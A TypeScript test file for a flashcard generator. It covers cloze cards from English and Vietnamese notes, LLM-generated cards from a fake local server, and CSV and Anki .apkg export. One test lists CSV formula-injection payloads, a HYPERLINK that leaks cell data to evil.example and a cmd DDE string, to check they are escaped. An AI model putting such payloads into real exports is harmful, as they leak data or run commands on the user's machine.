/**
 * Flashcards from notes (extractive and from a real local chat-completions server) and their files:
 * CSV read back by Python's csv module, and the .apkg unzipped and opened with the sqlite3 CLI the
 * way Anki's importer reads it.
 */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { flashcardsApkg, flashcardsCsv } from "../../inference-node/content/flashcards/export.ts";
import {
  BLANK,
  type Flashcard,
  type FlashcardSet,
  generateFlashcards,
} from "../../inference-node/content/flashcards/generate.ts";
import { runFlashcards } from "../../inference-node/content/flashcards/run-flashcards.ts";
import { foldForCompare, noteSections } from "../../inference-node/content/text.ts";
import type { NoteSnapshot } from "../../protocol/content.ts";
import { FlashcardOptions } from "../../protocol/flashcards-params.ts";
import { ENGLISH_NOTE, VIETNAMESE_NOTE } from "./content-helpers.ts";
import { type FakeServer, sendJson, startServer } from "./translate-fake-servers.ts";

const signal = new AbortController().signal;
const extractive = (note: NoteSnapshot, options: Partial<FlashcardOptions> = {}) =>
  generateFlashcards(note, FlashcardOptions.parse(options), { llm: null, signal });
const fronts = (set: FlashcardSet) => set.cards.map((c) => c.front);
const expectDistinctFronts = (cards: readonly Flashcard[]) =>
  expect(new Set(cards.map((c) => foldForCompare(c.front))).size).toBe(cards.length);

describe("extractive flashcards", () => {
  it("makes cards from an English note: cloze fronts, the blanked term on the back, the sentence kept", async () => {
    const set = await extractive(ENGLISH_NOTE);
    expect(set).toMatchObject({ source: "extractive", language: "en", difficulty: "medium" });
    expect(set.cards).toHaveLength(10);
    expectDistinctFronts(set.cards);
    for (const card of set.cards) {
      expect(ENGLISH_NOTE.content).toContain(card.source_sentence);
      expect(card.front).toBe(card.source_sentence.replace(card.back, BLANK));
      expect(card.tags.slice(0, 2)).toEqual(["medium", "cloze"]);
    }
    expect(set.cards[0]).toEqual({
      front: `The ${BLANK} is one of the longest rivers in Asia.`,
      back: "Mekong",
      source_sentence: "The Mekong is one of the longest rivers in Asia.",
      tags: ["medium", "cloze", "overview"],
    });
  });

  it("keeps a Vietnamese note's diacritics exactly, in cards and in tags", async () => {
    const set = await extractive(VIETNAMESE_NOTE, { difficulty: "easy" });
    expect(set.language).toBe("vi");
    expect(set.cards[0]).toMatchObject({ front: "Sông Mê Kông", tags: ["easy", "definition", "tổng_quan"] });
    expect(fronts(set)).toContain("Đồng bằng sông Cửu Long");
    for (const card of set.cards) {
      expect(VIETNAMESE_NOTE.content).toContain(card.front);
      expect(VIETNAMESE_NOTE.content).toContain(card.back);
    }
    expectDistinctFronts(set.cards);
  });

  it("asks differently by difficulty: easy defines terms, hard blanks details of the less prominent sentences", async () => {
    const [easy, medium, hard] = await Promise.all(
      (["easy", "medium", "hard"] as const).map((difficulty) =>
        extractive(ENGLISH_NOTE, { count: 3, difficulty }),
      ),
    );
    // Easy: the term a defining sentence defines comes first, the sentence is its back.
    expect(easy?.cards[0]).toMatchObject({
      front: "Mekong",
      back: "The Mekong is one of the longest rivers in Asia.",
    });
    for (const card of easy?.cards ?? []) expect(card.front).not.toContain(BLANK);
    // Medium blanks numbers and names first, hard content words.
    expect(medium?.cards.map((c) => c.back)).toEqual(["Mekong", "China", "level"]); // a noun, not "pushes"
    // One word each, capitalised only when it fills a blank opening its sentence ("_____ are testing").
    for (const card of hard?.cards ?? []) {
      expect(card.back).toMatch(/^\p{Lu}?\p{Ll}+$/u);
      if (/^\p{Lu}/u.test(card.back)) expect(card.front.startsWith(BLANK)).toBe(true);
    }
    expect(new Set(hard?.cards.map((c) => c.source_sentence))).not.toEqual(
      new Set(medium?.cards.map((c) => c.source_sentence)),
    );
    expect(fronts(easy!)).not.toEqual(fronts(medium!));
  });

  it("gives at most `count` cards, and one per sentence of five words or more when the note is shorter", async () => {
    expect((await extractive(ENGLISH_NOTE, { count: 1 })).cards).toHaveLength(1);
    expect((await extractive(ENGLISH_NOTE, { count: 7 })).cards).toHaveLength(7);
    // The English note has 10 sentences, all of five words or more: 50 asked, 10 made.
    const sentences = noteSections(ENGLISH_NOTE.content).flatMap((s) => s.sentences);
    expect(sentences).toHaveLength(10);
    expect((await extractive(ENGLISH_NOTE, { count: 50 })).cards).toHaveLength(10);
    // Easy needs a defined term or a name per card and fronts are distinct: only 4 here.
    expect((await extractive(ENGLISH_NOTE, { count: 50, difficulty: "easy" })).cards).toHaveLength(4);
    const short = { ...ENGLISH_NOTE, content: "The Mekong is a long river. It is wet. Fish live there." };
    expect(fronts(await extractive(short, { count: 10 }))).toEqual([`The ${BLANK} is a long river.`]);
  });

  it("bounds count to 1..50 and difficulty to easy|medium|hard", () => {
    expect(FlashcardOptions.parse({})).toEqual({ count: 10, difficulty: "medium" });
    expect(FlashcardOptions.safeParse({ count: 0 }).success).toBe(false);
    expect(FlashcardOptions.safeParse({ count: 51 }).success).toBe(false);
    expect(FlashcardOptions.safeParse({ difficulty: "expert" }).success).toBe(false);
  });

  it("fails note_too_short on an empty note and on one with no five-word sentence", async () => {
    await expect(extractive({ ...ENGLISH_NOTE, content: "" })).rejects.toMatchObject({
      name: "ContentError",
      code: "note_too_short",
    });
    await expect(
      extractive({ ...ENGLISH_NOTE, content: "# Title\nShort one. Two words." }),
    ).rejects.toMatchObject({
      code: "note_too_short",
    });
  });
});

describe("flashcards from a chat model", () => {
  let server: FakeServer;
  let answer = "";
  beforeAll(async () => {
    server = await startServer((req, res) => {
      if (req.path !== "/v1/chat/completions") return sendJson(res, 404, {});
      sendJson(res, 200, {
        id: "chatcmpl-1",
        object: "chat.completion",
        choices: [{ index: 0, message: { role: "assistant", content: answer }, finish_reason: "stop" }],
      });
    });
  });
  afterAll(async () => {
    await server.close();
  });
  const llm = () => ({ url: server.url, model: "local-model" });

  it("asks in the note's language at the difficulty, drops repeated fronts and keeps `count`", async () => {
    const card = (front: string, back: string) => ({ front, back, source_sentence: "", tags: ["địa lý"] });
    answer = `Here you go: ${JSON.stringify({
      cards: [
        card("Sông Mê Kông", "Sông dài nhất châu Á"),
        card("SONG ME KONG", "lặp"),
        card("Cần Thơ", "Thành phố"),
      ],
    })}`;
    const set = await generateFlashcards(
      VIETNAMESE_NOTE,
      { count: 2, difficulty: "easy" },
      { llm: llm(), signal },
    );
    const body = server.requests.at(-1)?.body as { model: string; messages: { content: string }[] };
    expect(body.model).toBe("local-model");
    expect(body.messages[0]?.content).toContain("Write 2 flashcards in Vietnamese");
    expect(body.messages[0]?.content).toContain("its definition");
    expect(set.source).toBe("llm");
    expect(set.cards).toEqual([
      { front: "Sông Mê Kông", back: "Sông dài nhất châu Á", source_sentence: "", tags: ["easy", "địa_lý"] },
      { front: "Cần Thơ", back: "Thành phố", source_sentence: "", tags: ["easy", "địa_lý"] },
    ]);
  });

  it("fails llm_failed on an answer of the wrong shape, and note_too_short before asking about an empty note", async () => {
    answer = '{"cards": [{"front": ""}]}';
    await expect(
      generateFlashcards(ENGLISH_NOTE, FlashcardOptions.parse({}), { llm: llm(), signal }),
    ).rejects.toMatchObject({ code: "llm_failed" });
    const asked = server.requests.length;
    await expect(
      generateFlashcards({ ...ENGLISH_NOTE, content: " " }, FlashcardOptions.parse({}), {
        llm: llm(),
        signal,
      }),
    ).rejects.toMatchObject({ code: "note_too_short" });
    expect(server.requests.length).toBe(asked);
  });
});

describe("flashcard files", () => {
  const tricky: FlashcardSet = {
    title: "Sông Mê Kông",
    language: "vi",
    difficulty: "medium",
    source: "extractive",
    cards: [
      { front: 'Dấu "ngoặc", phẩy', back: "dòng một\r\ndòng hai", source_sentence: "a,b", tags: ["x", "y"] },
      { front: "<b>Cần Thơ</b> & An Giang", back: "Đồng bằng", source_sentence: "", tags: [] },
    ],
  };

  it("writes CSV that an RFC 4180 reader (Python's csv) reads back field for field, behind a UTF-8 BOM", () => {
    const csv = flashcardsCsv(tricky.cards);
    expect(csv.startsWith("\uFEFFfront,back,source_sentence,tags\r\n")).toBe(true);
    const rows = JSON.parse(
      execFileSync(
        "python3",
        [
          "-c",
          "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode('utf-8-sig'), newline='')))))",
        ],
        { input: Buffer.from(csv, "utf8") },
      ).toString("utf8"),
    ) as string[][];
    expect(rows).toEqual([
      ["front", "back", "source_sentence", "tags"],
      ...tricky.cards.map((c) => [c.front, c.back, c.source_sentence, c.tags.join(" ")]),
    ]);
  });

  it("keeps a note's text from running as a spreadsheet formula: such cells start with an apostrophe", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,1)",
      "\tx",
    ];
    const csv = flashcardsCsv(
      hostile.map((front) => ({ front, back: "b", source_sentence: front, tags: [] })),
    );
    const rows = csv.slice(1).split("\r\n").slice(1, -1);
    // Excel, LibreOffice and Sheets evaluate a cell that starts with = + - @ (or a tab/CR before one).
    for (const row of rows) expect(row).toMatch(/^"?'/);
    expect(rows[3]).toBe(`"'@SUM(1,1)",b,"'@SUM(1,1)",`);
  });

  it("packs an .apkg that unzips to Anki's legacy collection and an empty media map", async () => {
    const dir = await mkdtemp(join(tmpdir(), "flashcards-"));
    try {
      const now = new Date("2026-01-02T03:04:05Z");
      const apkg = await flashcardsApkg(tricky, { seed: "note-vi-1", now });
      const zip = await JSZip.loadAsync(apkg);
      expect(Object.keys(zip.files).sort()).toEqual(["collection.anki2", "media"]);
      expect(JSON.parse(await zip.file("media")!.async("string"))).toEqual({});
      const path = join(dir, "collection.anki2");
      await writeFile(path, await zip.file("collection.anki2")!.async("uint8array"));
      const sql = <T>(query: string) =>
        JSON.parse(execFileSync("sqlite3", ["-json", path, query]).toString("utf8") || "[]") as T[];

      // The tables and columns Anki's importer reads (schema 11).
      const columns = (table: string) =>
        sql<{ name: string }>(`pragma table_info(${table})`).map((c) => c.name);
      expect(
        sql<{ name: string }>("select name from sqlite_master where type = 'table' order by name").map(
          (t) => t.name,
        ),
      ).toEqual(["cards", "col", "graves", "notes", "revlog"]);
      expect(columns("col")).toEqual([
        "id",
        "crt",
        "mod",
        "scm",
        "ver",
        "dty",
        "usn",
        "ls",
        "conf",
        "models",
        "decks",
        "dconf",
        "tags",
      ]);
      expect(columns("notes")).toEqual([
        "id",
        "guid",
        "mid",
        "mod",
        "usn",
        "tags",
        "flds",
        "sfld",
        "csum",
        "flags",
        "data",
      ]);
      expect(columns("cards")).toEqual([
        "id",
        "nid",
        "did",
        "ord",
        "mod",
        "usn",
        "type",
        "queue",
        "due",
        "ivl",
        "factor",
        "reps",
        "lapses",
        "left",
        "odue",
        "odid",
        "flags",
        "data",
      ]);

      const [col] = sql<{ ver: number; models: string; decks: string; dconf: string }>(
        "select ver, models, decks, dconf from col",
      );
      expect(col?.ver).toBe(11);
      // The keys Anki's schema-11 upgrade requires of a deck options group.
      expect(Object.keys(JSON.parse(col!.dconf)["1"])).toEqual(
        expect.arrayContaining([
          "id",
          "mod",
          "name",
          "usn",
          "maxTaken",
          "autoplay",
          "timer",
          "new",
          "rev",
          "lapse",
        ]),
      );
      const models = Object.values(JSON.parse(col!.models)) as {
        id: number;
        type: number;
        flds: { name: string; ord: number }[];
        tmpls: { ord: number; qfmt: string; afmt: string }[];
      }[];
      expect(models).toHaveLength(1);
      expect(models[0]).toMatchObject({
        type: 0,
        flds: [
          { name: "Front", ord: 0 },
          { name: "Back", ord: 1 },
        ],
      });
      expect(models[0]?.tmpls).toEqual([expect.objectContaining({ ord: 0, qfmt: "{{Front}}" })]);
      expect(models[0]?.tmpls[0]?.afmt).toContain("{{Back}}");
      const decks = Object.values(JSON.parse(col!.decks)) as { id: number; name: string }[];
      expect(decks.map((d) => d.name).sort()).toEqual(["Default", "Sông Mê Kông"]);
      const deck = decks.find((d) => d.name === "Sông Mê Kông")!;

      const notes = sql<{
        id: number;
        guid: string;
        mid: number;
        mod: number;
        usn: number;
        tags: string;
        flds: string;
        sfld: string;
        csum: number;
      }>("select * from notes order by id");
      expect(notes.map((n) => n.flds.split("\x1f"))).toEqual([
        ["Dấu &quot;ngoặc&quot;, phẩy", "dòng một\r\ndòng hai"],
        ["&lt;b&gt;Cần Thơ&lt;/b&gt; &amp; An Giang", "Đồng bằng"],
      ]);
      expect(notes.map((n) => n.tags)).toEqual([" x y ", ""]);
      tricky.cards.forEach((card, i) => {
        const note = notes[i]!;
        // Anki's csum: the first 8 hex digits of SHA-1 of the first field's plain text.
        const sha1 = createHash("sha1").update(card.front, "utf8").digest("hex");
        expect(note.csum).toBe(Number.parseInt(sha1.slice(0, 8), 16));
        expect(note.sfld).toBe(card.front);
        expect(note).toMatchObject({ mid: models[0]?.id, mod: now.getTime() / 1000, usn: -1 });
      });
      expect(new Set(notes.map((n) => n.guid)).size).toBe(2);
      const cards = sql<{ nid: number; did: number; ord: number; type: number; queue: number; due: number }>(
        "select nid, did, ord, type, queue, due from cards order by due",
      );
      expect(cards).toEqual(
        notes.map((n, i) => ({ nid: n.id, did: deck.id, ord: 0, type: 0, queue: 0, due: i + 1 })),
      );

      // The same note exported again keeps its deck id and guids (Anki updates instead of duplicating).
      const again = await JSZip.loadAsync(await flashcardsApkg(tricky, { seed: "note-vi-1" }));
      await writeFile(path, await again.file("collection.anki2")!.async("uint8array"));
      expect(sql<{ guid: string }>("select guid from notes order by id").map((n) => n.guid)).toEqual(
        notes.map((n) => n.guid),
      );
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("runFlashcards", () => {
  it("writes the JSON, CSV and .apkg of one set into the task folder", async () => {
    const dir = await mkdtemp(join(tmpdir(), "flashcards-run-"));
    try {
      const output = await runFlashcards(
        { note: VIETNAMESE_NOTE, count: 3, difficulty: "hard" },
        { llm: null },
        signal,
        dir,
      );
      expect(output.data).toMatchObject({
        note_id: "note-vi-1",
        title: "Sông Mê Kông",
        language: "vi",
        difficulty: "hard",
        card_count: 3,
        text_source: "extractive",
      });
      expect(output.files.map((f) => [f.role, f.path])).toEqual([
        ["json", join(dir, "flashcards.json")],
        ["csv", join(dir, "flashcards.csv")],
        ["apkg", join(dir, "flashcards.apkg")],
      ]);
      const json = JSON.parse(await readFile(join(dir, "flashcards.json"), "utf8")) as FlashcardSet;
      expect(json.cards).toEqual(output.data.cards);
      const csv = await readFile(join(dir, "flashcards.csv"));
      expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const zip = await JSZip.loadAsync(await readFile(join(dir, "flashcards.apkg")));
      expect(zip.file("collection.anki2")).not.toBeNull();
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
